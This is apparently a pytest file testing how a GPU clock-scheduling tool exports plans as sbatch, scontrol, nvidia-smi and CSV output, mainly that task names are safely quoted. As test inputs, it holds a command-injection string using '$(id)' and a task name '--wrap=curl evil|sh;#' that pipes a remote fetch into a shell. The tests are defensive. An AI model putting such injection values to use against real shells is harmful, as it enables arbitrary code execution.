"""A plan as commands: names are quoted, clocks are in MHz, what is set is reset."""

from __future__ import annotations

import csv
import io
import shlex
from dataclasses import replace
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import click
import numpy as np
import pytest

from downclock.adapters.export import TARGETS, exported, runs_of
from downclock.cli.export import command
from downclock.errors import InvalidInput
from downclock.power.library_file import read_library
from downclock.problem.platform import Kind, Platform, ServerSpec
from downclock.problem.problem import Problem
from downclock.problem.tasks import Tasks
from downclock.schedule.schedule import Outcomes, PowerSpans, Schedule, Segments

HOSTILE = "a'b $(id)\n;x"


def _plan() -> tuple[Problem, Schedule]:
    """Two tasks on two servers: one GPU for 90 s, then two GPUs of one server at another clock."""
    library = read_library("builtin:a100")
    kind = Kind.of(library, "a100")
    platform = Platform.build([kind], [ServerSpec("gpu", (("a100", 2),), count=2)])
    tasks = Tasks.of([0, 0], deadline_s=1e4, processors=[1, 2], name=["train", HOSTILE])
    epoch = datetime(2026, 11, 17, 2, tzinfo=UTC)
    problem = Problem(tasks, library, platform, epoch=epoch)
    ratio = np.array([705 / 1410, 1.0, 1.0]), np.array([1.0, 1.0, 1.0])
    segments = Segments.of(
        np.array([0, 1, 1]),
        np.array([1, 2, 3]),
        np.array([0.0, 60.0, 60.0]),
        np.array([90.0, 120.0, 120.0]),
        np.array([ratio[0], ratio[1], ratio[1]]),
    )
    none = np.empty(0)
    outcomes = Outcomes(np.zeros(2, np.int64), np.array(["", ""], dtype=object), np.ones(2))
    return problem, Schedule(segments, PowerSpans(none, none, none, none), outcomes, "by hand")


def test_sbatch_has_node_start_clock_and_limit_with_names_quoted() -> None:
    lines = exported(*_plan(), "sbatch", "jobs/{task}.sh").splitlines()
    assert lines[0] == "# 2026-11-17T02:00:00+00:00: train"
    words = shlex.split(lines[1])
    assert words == ["sbatch", "--job-name=train", "--begin=uts1794880800",
                     "--nodelist=gpu1", "--nodes=1", "--gres=gpu:1", "--time=3",
                     "--gpu-freq=705", "jobs/train.sh"]  # fmt: skip
    second = shlex.split(exported(*_plan(), "sbatch", "x"), comments=True)
    assert f"--job-name={HOSTILE}" in second
    assert "--gres=gpu:2" in second


def test_no_name_is_an_option_of_sbatch() -> None:
    problem, schedule = _plan()
    problem.tasks.name[0] = "--wrap=curl evil|sh;#"
    (line,) = [
        e
        for e in exported(problem, schedule, "sbatch", "{task}").splitlines()
        if "evil" in e and e[0] != "#"
    ]
    assert shlex.split(line)[-1] == "./--wrap=curl evil|sh;#"


def test_a_job_that_runs_a_little_over_is_not_ended() -> None:
    """An hour: a tenth and a minute more."""
    run = replace(runs_of(*_plan())[0], start_s=0.0, end_s=3600.0)
    assert run.minutes == 67


@pytest.mark.parametrize("zone", ["UTC", "Europe/Berlin", "America/Los_Angeles"])
def test_a_start_is_the_same_instant_in_every_zone(zone: str) -> None:
    problem, schedule = _plan()
    assert problem.epoch is not None
    moved = replace(problem, epoch=problem.epoch.astimezone(ZoneInfo(zone)))
    assert [run.begin for run in runs_of(moved, schedule)] == ["uts1794880800", "uts1794880860"]
    without = replace(problem, epoch=None)
    assert [run.begin for run in runs_of(without, schedule)] == ["now+0", "now+60"]


def test_scontrol_changes_and_releases() -> None:
    words = shlex.split(exported(*_plan(), "scontrol", ""), comments=True)
    assert words[:2] == ["scontrol", "update"]
    assert words.count("release") == 2
    assert f"jobname={HOSTILE}" in words
    assert "TresFreq=gpu:1410" in words


def test_nvidia_smi_sets_and_resets_in_the_order_of_time() -> None:
    lines = exported(*_plan(), "nvidia-smi", "").splitlines()
    assert [line for line in lines if not line.startswith("#")] == [
        "nvidia-smi -i 1 -lgc 705,705",
        "nvidia-smi -i 0,1 -lgc 1410,1410",
        "nvidia-smi -i 1 -rgc",
        "nvidia-smi -i 0,1 -rgc",
    ]
    assert lines[0] == "# 2026-11-17T02:00:00+00:00 on gpu1: train starts"
    assert all("\n" not in line for line in lines)


def test_the_command_offers_what_can_be_written() -> None:
    (to,) = [each for each in command.params if each.name == "target"]
    assert isinstance(to.type, click.Choice)
    assert tuple(to.type.choices) == TARGETS


def test_csv_reads_back() -> None:
    rows = list(csv.DictReader(io.StringIO(exported(*_plan(), "csv", ""))))
    assert [row["task"] for row in rows] == ["train", HOSTILE]
    assert [(row["servers"], row["gpus"], row["core_mhz"]) for row in rows] == [
        ("gpu1", "1", "705"),
        ("gpu2", "0,1", "1410"),
    ]


def test_what_no_command_says_is_refused() -> None:
    problem, schedule = _plan()
    segments = schedule.segments
    parts = Segments.of(
        np.array([0, 0]), np.array([0, 0]), np.array([0.0, 50.0]), np.array([20.0, 90.0]),
        segments.points[:2], 0.5,
    )  # fmt: skip
    with pytest.raises(InvalidInput, match="several parts"):
        runs_of(problem, Schedule(parts, schedule.spans, schedule.outcomes, "x"))
